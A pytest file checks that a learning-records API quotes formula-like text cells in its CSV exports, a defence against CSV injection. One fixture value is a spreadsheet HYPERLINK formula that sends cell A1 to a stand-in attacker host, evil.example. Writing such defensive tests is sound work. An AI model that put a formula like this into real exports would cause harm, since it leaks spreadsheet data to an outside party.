"""Every CSV the API hands out for a spreadsheet writes a text cell that a
spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
return first) with a ``'`` before it, and numbers as numbers: the demo city
with an organisation, a badge, its themes, places and pathways
renamed to formulas through the API (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient

from colearn.config import Settings
from colearn.graph.store import GraphStore
from colearn.ingest.awards import ingest_awards
from colearn.ingest.catalogue import demo_city_path, ingest_demo_catalogue
from colearn.service.app import create_app
from colearn.service.auth import create_key

ORG = "kiln-digital"
LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Open report")'
#: Each renamed section: its route, the field renamed, and how a formula name starts.
RENAMED = {"themes": ("/themes", "name", "@"), "places": ("/places", "name", "+"),
           "pathways": ("/pathways", "title", "-")}


def _ids(section: str) -> list[str]:
    return [r["id"] for r in yaml.safe_load((demo_city_path() / f"{section}.yaml").read_text())]


@pytest.fixture
def world(store: GraphStore, tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str]]]:
    ingest_demo_catalogue(store)
    ingest_awards(store, demo_city_path())
    admin = {"X-API-Key": create_key(store, "admin").secret}
    with TestClient(create_app(Settings(data_dir=tmp_path), store=store)) as c:
        renamed = c.patch(f"/organisations/{ORG}", json={"name": LINK}, headers=admin)
        assert renamed.status_code == 200, renamed.text
        for section, (route, field, start) in RENAMED.items():
            for i in _ids(section):
                r = c.patch(f"{route}/{i}", json={field: f"{start}{i}"}, headers=admin)
                assert r.status_code == 200, r.text
        assert c.patch("/badges/junior-developer-placement", json={"name": "=1+2"}, headers=admin).status_code == 200
        yield c, admin


def _rows(client: TestClient, path: str, headers: dict[str, str], **params: object) -> list[dict[str, str]]:
    r = client.get(path, params=params, headers={**headers, "Accept": "text/csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


def _no_formula(rows: list[dict[str, str]]) -> list[str]:
    """Every cell, checked: none a spreadsheet would run; returns the quoted ones."""
    quoted = []
    for row in rows:
        for cell in row.values():
            if cell.startswith("'"):
                quoted.append(cell)
            elif cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so
    return quoted


CASES = [("/insights/issued", {"by": "organisation", "interval": "month"}, f"'{LINK}"),
         ("/insights/issued", {"by": "theme", "interval": "month"}, "'@youth-voice"),
         ("/insights/issued", {"by": "place", "interval": "week"}, "'+northgate"),
         ("/insights/spine", {}, None),
         ("/insights/progression", {}, None),
         ("/insights/pathways", {}, "'-digital-careers"),
         ("/insights/supply-demand", {}, "'@youth-voice"),
         ("/insights/unseen-talent", {}, None),
         (f"/organisations/{ORG}/assertions", {"limit": 10_000}, "'=1+2"),
         (f"/organisations/{ORG}/pathways/funnels", {}, "'-digital-careers")]


def test_every_csv_route_quotes_formulas_and_keeps_numbers(world) -> None:
    client, admin = world
    for path, params, expected in CASES:
        rows = _rows(client, path, admin, **params)
        assert rows, path
        quoted = _no_formula(rows)
        if expected is not None:
            assert expected in quoted, (path, params, sorted(set(quoted))[:5])
        numbers = [row[c] for row in rows for c in ("learners", "assertions") if row.get(c)]
        assert all(n.lstrip("-").isdigit() for n in numbers), path  # counts are numbers, never quoted
